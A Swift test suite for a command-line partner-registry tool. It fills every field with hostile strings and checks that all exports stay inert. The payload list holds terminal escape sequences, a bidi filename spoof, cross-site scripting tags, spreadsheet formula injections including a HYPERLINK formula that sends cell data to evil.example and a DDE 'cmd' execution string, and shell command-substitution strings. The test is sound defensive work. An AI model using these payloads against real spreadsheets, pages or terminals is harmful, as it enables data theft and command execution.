import Foundation
import FoundationXML
import Testing

/// Whatever a field holds, no output lets it steer a terminal, run in a page, count as a formula, or break the form.
@Suite struct HostileTextTests {
    /// What a list, a page or a terminal might take for something else than text.
    private static let texts: [(name: String, text: String)] = [
        ("escape", "\u{1B}]0;owned\u{7}\u{1B}[31mRED\u{1B}[2J"),
        ("control", "a\u{9B}31mb\u{85}c\u{8D}d"), ("turned", "abc\u{202E}gpj.exe\u{2066}\u{2069}"),
        ("hidden", "x\u{200B}\u{FEFF}\u{00AD}\u{E0041}y"),
        ("page", "</title><script>alert(1)</script><img src=x onerror=alert(2)>\"'><svg onload=alert(3)>"),
        ("formula", "=HYPERLINK(\"http://evil.example/?\"&A1)"), ("plus", "+1+cmd|' /C calc'!A0"),
        ("at", "@SUM(1)"), ("wide", "＝1+1"), ("data", "]]><!--"),
        ("format", "%s%n{}{{}}$(id)`id`"), ("json", "{\"a\":1}\\u0000\\"), ("calendar", "x;y,z:BEGIN"),
        ("high", "Z" + String(repeating: "\u{301}", count: 100)),
    ]

    private static func quoted(_ text: String) -> String {
        "'\(text.replacingOccurrences(of: "'", with: "'\\''"))'"
    }

    /// A registry in which each text stands in every field that takes it.
    private static func registry() throws -> (scratch: CommandScratch, taken: Int) {
        let scratch = try CommandScratch()
        try scratch.done(
            "concord init 'Nordlicht </title><b>' --country DE && concord key new --name seal --output seal.pub"
        )
        var taken = 0
        func take(_ line: String) throws {
            let ending = try scratch.run(line)
            #expect([0, 65].contains(ending.code), "\(line): \(ending.complaint)")
            #expect(!isUnsafe(ending.complaint), "\(line): \(ending.complaint.debugDescription)")
            if ending.code == 0 { taken += 1 }
        }
        for (name, text) in texts {
            let hostile = quoted(text)
            let partner = quoted("\(name) \(text)")
            // A field that refuses it is left out, so that the others are tried.
            try take(
                "concord partner add \(partner) --vision \(hostile)' clean energy' || concord partner add \(name)"
            )
            let found = "\"$(concord search --format csv \(name) | tail -1 | cut -d, -f1)\""
            let reference = try scratch.done(
                "concord partner list --format json | grep -B1 -F '\"name\": \"\(name)' | grep -o 'P-[0-9A-Z]*-[0-9A-Z]*' | head -1"
            ).trimmingCharacters(in: .whitespacesAndNewlines)
            let who = reference.isEmpty ? found : reference
            for option in [
                "address", "channel", "website", "manager", "trading-name", "native-name",
                "signatories-source",
            ] {
                try take("concord partner edit \(who) --\(option) \(hostile) --why \(hostile)")
            }
            try take(
                "concord person add \(hostile) --of \(who) --function \(hostile) --role contact --email \(name)@oak.example"
            )
            try take(
                "concord declaration issue \(who) --object \(hostile) --requirement 'EN 1:2012, '\(hostile) --place \(hostile) "
                    + "--signatory \(hostile) --function \(hostile) --why-enough \(hostile) --limitations \(hostile) "
                    + "--information \(hostile) --issuer-address \(hostile)")
            try take(
                "concord declaration issue \(who) --object 'Both '\(hostile) --requirement 'EN 1:2012' --place Aarhus "
                    + "--issuer-address Aarhus --signatory 'One '\(hostile) --function Owner "
                    + "--cosignatory 'Other '\(hostile)='Fn '\(hostile)")
            try take(
                "concord risk add \(hostile) --with \(who) --kind threat --likelihood 3 --impact 4 --cause \(hostile) "
                    + "--event \(hostile) --consequence \(hostile) --description \(hostile)")
            try take("concord cluster add 'Cl '\(hostile) --kind cluster --lead \(who) --purpose \(hostile)")
            // What begins with a hyphen is taken after a sign alone.
            try take("concord partner edit \(who) --channel=-2+3")
            try take("concord dialogue add \(who) --point \(hostile) --facilitator \(hostile)")
            try take("concord align 'clean energy '\(hostile) --save \(hostile) --save-query \(hostile)")
            try take("concord partner edit \(who) --tag \(hostile)")
            try take("concord value add own:\(name) \(hostile) --description \(hostile)")
            try take(
                "concord retention add backup '9 days' --basis contract --source \(hostile) || concord retention edit backup --source \(hostile)"
            )
        }
        return (scratch, taken)
    }

    /// Whether a text holds what steers a terminal or hides.
    private static func isUnsafe(_ text: String) -> Bool {
        text.unicodeScalars.contains { scalar in
            switch scalar.value {
            case 0x0A: false
            case 0..<0x20, 0x7F...0x9F, 0x200B, 0x200E, 0x200F, 0x202A...0x202E, 0x2028, 0x2029,
                0x2066...0x2069,
                0xFEFF, 0xE0041:
                true
            default: false
            }
        }
    }

    private static func isFormula(_ cell: String) -> Bool {
        cell.firstMatch(of: /^[=+@\t\r＝]|^-[^0-9.]|^-\d+[+\-*\/]/) != nil
    }

    /// The cells of CSV as a strict reader has them; nil for what is none.
    private static func cells(_ text: String) -> [[String]]? {
        var (rows, row, cell): ([[String]], [String], String) = ([], [], "")
        var isQuoted = false
        var rest = Substring(text)
        while let next = rest.unicodeScalars.first {
            rest.unicodeScalars.removeFirst()
            if isQuoted {
                if next != "\"" {
                    cell.unicodeScalars.append(next)
                } else if rest.unicodeScalars.first == "\"" {
                    rest.unicodeScalars.removeFirst()
                    cell += "\""
                } else {
                    isQuoted = false
                }
            } else if next == "\"" {
                guard cell.isEmpty else { return nil }
                isQuoted = true
            } else if next == "," || next == "\n" {
                row.append(cell)
                cell = ""
                if next == "\n" { (rows, row) = (rows + [row], []) }
            } else {
                cell.unicodeScalars.append(next)
            }
        }
        return isQuoted || !cell.isEmpty || !row.isEmpty ? nil : rows
    }

    /// One registry for all outputs, since to make it takes some three hundred commands.
    @Test
    func `hostile text in every field is inert in tables, CSV, JSON, pages, pictures, packets and exports`()
        throws
    {
        let (scratch, taken) = try Self.registry()
        #expect(taken > 100)
        try checkLists(in: scratch)
        try checkDocuments(in: scratch)
    }

    private func checkLists(in scratch: CommandScratch) throws {
        var commands = [
            "partner list", "person list", "declaration list", "risk list", "cluster list", "search clean",
            "align 'clean energy' --explain", "shortlist list", "query list", "dialogue list",
            "value list own",
            "standard list", "key list", "organisation show", "organisation history", "retention list",
            "retention history backup", "risk heat-map", "risk balance --members", "risk check",
            "audit verify",
        ]
        for (noun, letter) in [
            ("partner", "P"), ("person", "H"), ("declaration", "D"), ("risk", "R"), ("cluster", "C"),
            ("dialogue", "G"), ("shortlist", "S"),
        ] {
            let references = try scratch.done(
                "concord \(noun) list --format json | grep -o '\"\(letter)-[0-9A-Z]*-[0-9A-Z]*\"' | tr -d '\"' | sort -u | head -4"
            ).split(separator: "\n")
            #expect(!references.isEmpty, "\(noun)")
            for reference in references {
                commands += ["\(noun) show \(reference)", "\(noun) history \(reference)"]
            }
        }
        for command in commands {
            for format in ["table", "json", "ndjson", "csv"] {
                let ending = try scratch.run("concord \(command) --format \(format)")
                let place = "\(command) as \(format)"
                #expect([0, 1].contains(ending.code), "\(place): \(ending.complaint)")
                #expect(!Self.isUnsafe(ending.output) && !Self.isUnsafe(ending.complaint), "\(place)")
                switch format {
                case "json":
                    #expect(throws: Never.self, "\(place)") {
                        try JSONSerialization.jsonObject(with: Data(ending.output.utf8))
                    }
                case "ndjson":
                    for line in ending.output.split(separator: "\n") {
                        #expect(throws: Never.self, "\(place)") {
                            try JSONSerialization.jsonObject(with: Data(line.utf8))
                        }
                    }
                case "csv":
                    let rows = try #require(Self.cells(ending.output), "\(place)")
                    #expect(Set(rows.map(\.count)).count <= 1, "\(place)")
                    #expect(rows.joined().filter(Self.isFormula) == [], "\(place)")
                default: break
                }
            }
        }
    }

    private func checkDocuments(in scratch: CommandScratch) throws {
        func references(_ noun: String, _ letter: String) throws -> [Substring] {
            try scratch.done(
                "concord \(noun) list --format json | grep -o '\"\(letter)-[0-9A-Z]*-[0-9A-Z]*\"' | tr -d '\"' | sort -u | head -4"
            ).split(separator: "\n")
        }
        for (index, declaration) in try references("declaration", "D").enumerated() {
            try scratch.done(
                """
                concord declaration seal \(declaration) --key seal && concord declaration export \(declaration) --output d\(index).html &&
                concord declaration export \(declaration) --format json --output d\(index).json &&
                concord declaration verify d\(index).json --trusted-key seal.pub
                """)
        }
        for (index, risk) in try references("risk", "R").enumerated() {
            let partner = try scratch.done(
                "concord risk show \(risk) --format json | grep -o 'P-[0-9A-Z]*-[0-9A-Z]*' | head -1"
            )
            .trimmingCharacters(in: .whitespacesAndNewlines)
            try scratch.done(
                """
                concord risk allocate \(risk) --bear organisation=1/2 --bear \(partner)=1/2 && concord risk propose \(risk) &&
                concord risk ask \(risk) \(partner) --output a\(index).html --output a\(index).txt
                """)
        }
        for (index, cluster) in try references("cluster", "C").enumerated() {
            try scratch.done("concord cluster map \(cluster) --svg m\(index).svg")
        }
        try scratch.done(
            """
            concord declaration export --all --as-of 2037-01-01 --output all; concord risk heat-map --svg heat.svg
            concord declaration request "$(concord partner list --format csv | tail -1 | cut -d, -f1)" --template vsme-basic --output packet --again --why sooner
            """)
        for (index, partner) in try references("partner", "P").enumerated() {
            try scratch.done("concord partner show \(partner) --format html > partner\(index).html")
        }
        try scratch.done(
            """
            concord agenda --format html > agenda.html && concord agenda --format ics > agenda.ics
            concord partner ask $(concord partner list --format json | grep -o '"P-[0-9A-Z]*-[0-9A-Z]*"' | tr -d '"' | sort -u) \
                --template code-of-conduct --output packet-each --mail > told
            """)
        var pages = 0
        let files = FileManager.default.enumerator(atPath: scratch.folder)?.compactMap { $0 as? String } ?? []
        for file in files where [".html", ".svg", ".txt"].contains(where: file.hasSuffix) {
            let text = try String(contentsOfFile: "\(scratch.folder)/\(file)", encoding: .utf8)
            #expect(!Self.isUnsafe(text.replacingOccurrences(of: "\r\n", with: "\n")), "\(file)")
            guard !file.hasSuffix(".txt") else { continue }
            pages += 1
            // Pages that ask have one script of ours; nothing else has any.
            let scripts = text.components(separatedBy: "<script").count - 1
            let asks = file.firstMatch(of: /^(a[0-9]|packet)/) != nil
            #expect(scripts <= (asks ? 1 : 0), "\(file)")
            let tags = text.matches(of: /<[a-zA-Z][^>]*>/).map { String($0.output) }
            for tag in tags {
                #expect(tag.firstMatch(of: /^<(img|iframe|object|embed|base)\b/) == nil, "\(file): \(tag)")
                // The tag without what its attributes hold.
                let bare = tag.replacing(/"[^"]*"/, with: "")
                #expect(bare.firstMatch(of: /\son[a-z]+=/) == nil, "\(file): \(tag)")
            }
            if file.hasSuffix(".svg") {
                #expect(XMLParser(data: Data(text.utf8)).parse(), "\(file)")
            }
        }
        #expect(pages > 12)
        try Self.checkCalendar(String(contentsOfFile: scratch.folder + "/agenda.ics", encoding: .utf8))
        let mails = files.filter { $0.hasSuffix(".eml") }
        #expect(mails.count > 8)
        for mail in mails {
            try Self.checkMail(String(contentsOfFile: "\(scratch.folder)/\(mail)", encoding: .utf8))
        }
    }

    private static func checkCalendar(_ text: String) throws {
        let lines = text.components(separatedBy: "\r\n")
        #expect(lines.allSatisfy { $0.utf8.count <= 75 } && !lines.contains { isUnsafe($0) })
        // Only a property begins a line, and each entry that begins also ends.
        let names = lines.filter { !$0.isEmpty && $0.utf8.first != UInt8(ascii: " ") }.map {
            $0.prefix { $0 != ":" && $0 != ";" }
        }
        #expect(
            Set(names).isSubset(of: [
                "BEGIN", "END", "VERSION", "PRODID", "CALSCALE", "X-WR-CALNAME", "UID", "DTSTAMP", "DTSTART",
                "DTEND",
                "SUMMARY", "DESCRIPTION", "CATEGORIES", "TRANSP",
            ]))
        let (begun, ended) = (lines.count { $0 == "BEGIN:VEVENT" }, lines.count { $0 == "END:VEVENT" })
        #expect(begun == ended && begun > 10)
    }

    private static func checkMail(_ text: String) throws {
        let head = try #require(text.components(separatedBy: "\r\n\r\n").first)
        let names = head.components(separatedBy: "\r\n").filter { !$0.hasPrefix(" ") }.map {
            $0.prefix { $0 != ":" }
        }
        #expect(Set(names).isSubset(of: ["X-Unsent", "To", "Subject", "MIME-Version", "Content-Type"]))
        #expect(text.utf8.allSatisfy { $0 == 13 || $0 == 10 || (0x20..<0x7F).contains($0) })
        let body = try #require(
            text.components(separatedBy: "base64\r\n\r\n").dropFirst().first?.components(
                separatedBy: "\r\n--"
            ).first)
        let words = try #require(Data(base64Encoded: body.replacingOccurrences(of: "\r\n", with: "")))
        #expect(
            !isUnsafe(String(decoding: words, as: UTF8.self).replacingOccurrences(of: "\r\n", with: "\n")))
    }
}
